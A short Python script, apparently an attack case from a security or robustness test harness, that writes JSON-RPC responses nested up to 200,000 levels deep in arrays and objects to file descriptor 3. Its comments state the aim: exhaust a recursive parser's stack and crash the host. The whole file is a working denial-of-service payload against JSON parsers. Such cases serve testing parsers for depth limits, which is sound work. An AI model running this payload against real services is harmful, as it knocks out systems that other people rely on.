# attack: send JSON so deep that a recursive parser runs out of stack
# success: the host crashes
import os


def go(input):
    for opening, closing in ((b"[", b"]"), (b'{"a":', b"}")):
        for depth in (100, 1000, 200_000):
            deep = opening * depth + b"1" + closing * depth
            message = b'{"jsonrpc":"2.0","id":2,"result":' + deep + b"}\n"
            while message:
                message = message[os.write(3, message):]
    return "sent"
